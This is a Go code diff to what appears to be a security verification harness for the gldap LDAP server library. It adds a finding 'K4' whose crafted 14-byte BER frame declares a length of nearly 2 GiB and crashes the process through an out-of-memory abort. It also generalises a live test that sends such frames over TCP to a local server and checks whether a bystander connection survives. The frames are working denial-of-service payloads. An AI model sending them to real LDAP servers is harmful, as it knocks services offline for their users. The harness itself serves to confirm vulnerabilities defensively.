@@ -20,7 +20,36 @@ import (
 	"github.com/jimlambrt/gldap"
 )
 
-func init() { commands["k1"] = cmdK1 }
+func init() { commands["k1"] = cmdK1; commands["k4"] = cmdK4 }
+
+// vh k4 [benign] [live]: known finding K4.  A 14-byte frame whose inner element declares a
+// length of 2^31-65536 bytes (30 09 86 86 00 00 7f ff 00 00 ...): go-asn1-ber allocates the
+// declared length before it reads (its only limit, MaxPacketLengthBytes, is 2^31-1 and gldap
+// does not lower it).  With less than 2 GiB to spare (a container's memory limit; here: the
+// address space capped by the caller with ulimit -v) the Go runtime aborts the whole process:
+// "fatal error: out of memory" - not a panic, no recover can catch it.  "benign": a frame of
+// the same shape declaring 3 bytes, under the same cap, as the control.
+func cmdK4(args []string) int {
+	frame := []byte{0x30, 0x09, 0x86, 0x86, 0x00, 0x00, 0x7f, 0xff, 0x00, 0x00, 0x7f, 0xff, 0x86, 0x86}
+	label := "huge"
+	live := false
+	for _, a := range args {
+		switch a {
+		case "benign":
+			frame = []byte{0x30, 0x09, 0x86, 0x86, 0x00, 0x00, 0x00, 0x00, 0x00, 0x03, 0x7f, 0xff, 0x86, 0x86}
+			label = "benign"
+		case "live":
+			live = true
+		}
+	}
+	if live {
+		return kLive("K4", frame, label)
+	}
+	c := gldap.VerifNewConn(bytes.NewReader(frame), io.Discard, nil, 1)
+	_, err := c.ReadRequest(1)
+	fmt.Printf("K4 %s returned err=%v\n", label, err != nil)
+	return 0
+}
 
 func cmdK1(args []string) int {
 	depth := 3000000
@@ -31,7 +60,7 @@ func cmdK1(args []string) int {
 	}
 	frame := bytes.Repeat([]byte{0x30, 0x80}, depth)
 	if len(args) > 1 && args[1] == "live" {
-		return k1Live(frame, depth)
+		return kLive("K1", frame, "depth="+strconv.Itoa(depth))
 	}
 	c := gldap.VerifNewConn(bytes.NewReader(frame), io.Discard, nil, 1)
 	_, err := c.ReadRequest(1)
@@ -41,17 +70,17 @@ func cmdK1(args []string) int {
 
 // k1Live: the same frame sent over TCP to a running server that also serves a
 // bystander connection; with the finding present the whole process (this one) dies.
-func k1Live(frame []byte, depth int) int {
+func kLive(tag string, frame []byte, label string) int {
 	l, err := net.Listen("tcp", "127.0.0.1:0")
 	if err != nil {
-		fmt.Println("K1 setup", err)
+		fmt.Println(tag+" setup", err)
 		return 3
 	}
 	addr := l.Addr().String()
 	l.Close()
 	srv, err := gldap.NewServer()
 	if err != nil {
-		fmt.Println("K1 setup", err)
+		fmt.Println(tag+" setup", err)
 		return 3
 	}
 	mux, _ := gldap.NewMux()
@@ -65,7 +94,7 @@ func k1Live(frame []byte, depth int) int {
 	}
 	by, err := net.Dial("tcp", addr)
 	if err != nil {
-		fmt.Println("K1 setup", err)
+		fmt.Println(tag+" setup", err)
 		return 3
 	}
 	del := []byte{0x30, 0x08, 0x02, 0x01, 0x01, 0x4a, 0x03, 'd', 'c', '='}
@@ -79,18 +108,18 @@ func k1Live(frame []byte, depth int) int {
 		return err == nil && n > 0
 	}
 	if !ask() {
-		fmt.Println("K1 setup: bystander not served")
+		fmt.Println(tag + " setup: bystander not served")
 		return 3
 	}
 	at, err := net.Dial("tcp", addr)
 	if err != nil {
-		fmt.Println("K1 setup", err)
+		fmt.Println(tag+" setup", err)
 		return 3
 	}
 	_, _ = at.Write(frame)
 	_ = at.Close()
 	time.Sleep(2 * time.Second)
-	fmt.Printf("K1 live depth=%d bystander_served_after=%v\n", depth, ask())
+	fmt.Printf("%s live %s bystander_served_after=%v\n", tag, label, ask())
 	return 0
 }
 
